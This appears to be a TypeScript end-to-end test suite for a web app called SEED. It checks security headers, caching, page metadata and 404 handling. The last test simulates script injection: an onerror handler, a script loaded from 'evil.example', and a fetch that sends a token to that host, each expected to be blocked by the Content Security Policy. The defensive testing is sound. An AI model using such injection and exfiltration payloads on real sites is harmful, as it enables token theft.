import { stack } from '../support/stack';
import { expect, test } from '../support/test';

async function get(path: string) {
  const response = await fetch(stack.webOrigin + path, { redirect: 'manual' });
  // Node's `fetch` crashes if the connection is closed before the body has been read.
  await response.clone().arrayBuffer();
  return response;
}

for (const path of ['/', '/auth', '/app', '/nowhere', '/robots.txt']) {
  test(`sends the headers that protect a visitor with ${path}`, async () => {
    const { headers } = await get(path);
    const policy = headers.get('content-security-policy') ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toMatch(/script-src 'self'( 'sha256-[\w+/=]+')*;/);
    expect(policy).toMatch(/style-src 'self'( 'sha256-[\w+/=]+')*;/);
    expect(headers.get('strict-transport-security')).toMatch(/^max-age=\d{8}/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('referrer-policy')).toBe('no-referrer');
    expect(headers.get('permissions-policy')).toContain('camera=()');
    expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
  });
}

test('makes browsers revalidate pages on every visit, and cache hashed files for a year', async () => {
  const page = await get('/auth');
  expect(page.headers.get('cache-control')).toBe('no-cache');
  const [script = ''] = /\/assets\/[\w.-]+\.js/.exec(await page.text()) ?? [];
  expect(script).toMatch(/\.[0-9a-f]{8}\.js$/);
  const response = await get(script);
  expect(response.status).toBe(200);
  expect(response.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
});

for (const [path, title, description] of [
  ['/', 'SEED · Airdrop farming that runs itself', /closed beta/],
  ['/auth', 'Sign in · SEED', /Sign in to SEED/],
  ['/app', 'Dashboard · SEED', /dashboard/],
  ['/nowhere', 'Page not found · SEED', /no page at this address/],
] as const) {
  test(`describes the page in the HTML of ${path}, also for link previews`, async () => {
    const html = await (await get(path)).text();
    const content = (name: string) => html.match(`<meta (?:name|property)="${name}" content="([^"]*)"`)?.[1];
    expect(html).toContain(`<title>${title}</title>`);
    expect(content('description')).toMatch(description);
    expect(content('og:title')).toBe(title);
    expect(content('og:description')).toMatch(description);
    expect(html.match(/<link rel="icon"/g)).toHaveLength(1);
  });
}

test('serves no source maps', async () => {
  const [script = ''] = /\/assets\/[\w.-]+\.js/.exec(await (await get('/auth')).text()) ?? [];
  expect((await get(`${script}.map`)).status).toBe(404);
  expect(await (await get(script)).text()).not.toContain('sourceMappingURL');
});

test('redirects /index.html to /, so that the page has one address', async () => {
  const answer = await get('/index.html');
  expect(answer.status).toBe(301);
  expect(new URL(answer.headers.get('location') ?? '', stack.webOrigin).pathname).toBe('/');
});

test('answers a missing page with status 404, which is not cached', async () => {
  for (const path of ['/nowhere', '/app/nowhere', '/AUTH', '/%F0%9F%8C%B1', '/assets/gone.12345678.js']) {
    const answer = await get(path);
    expect(answer.status).toBe(404);
    expect(answer.headers.get('cache-control')).toBe('no-cache');
  }
});

for (const path of ['/firebase.json', '/%66irebase.json', '//firebase.json', '/.built-from']) {
  test(`does not serve ${path}, which is never deployed`, async () => {
    const answer = await get(path);
    expect(answer.status).toBe(404);
    expect(await answer.text()).toContain('<title>');
  });
}

for (const path of ['/%E0%A4%A', '/%', '/app/%ff']) {
  test(`answers ${path}, which cannot be decoded, like a missing page`, async () => {
    const answer = await get(path);
    expect(answer.status).toBe(404);
    expect(answer.headers.get('cache-control')).toBe('no-cache');
  });
}

test('runs no script and sends nothing that the policy does not name', async ({ openPage }) => {
  const page = await openPage('/auth', {
    expectedErrors: [
      /Content Security Policy/i,
      /requires 'Trusted/,
      /^404: GET .*nowhere\.png/,
      /^failed: .*evil\.example/,
    ],
  });
  await page.getByRole('tab', { name: 'Sign In' }).waitFor();
  const outcome = await page.evaluate(async () => {
    const text = 'window.injected = true';
    const script = document.createElement('script');
    const image = document.createElement('img');
    const attacks: Record<string, () => void> = {
      text: () => document.head.append(Object.assign(script, { textContent: text })),
      html: () => (document.body.innerHTML += `<img src="/nowhere.png" onerror="${text}">`),
      handler: () => image.setAttribute('onerror', text),
      elsewhere: () => (script.src = 'https://evil.example/evil.js'),
      upload: () => (script.src = '/uploads/evil.js'),
      timer: () => setTimeout(text),
      policy: () =>
        (
          window as never as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
        ).trustedTypes.createPolicy('mine', {}),
    };
    const refused = Object.entries(attacks).flatMap(([name, attack]) => {
      try {
        attack();
        return [];
      } catch {
        return [name];
      }
    });
    const sent = await fetch('https://evil.example/?token=secret').then(
      () => true,
      () => false,
    );
    return { refused, injected: 'injected' in window, sent };
  });
  expect(outcome).toEqual({
    refused: ['text', 'html', 'handler', 'elsewhere', 'upload', 'timer', 'policy'],
    injected: false,
    sent: false,
  });
});
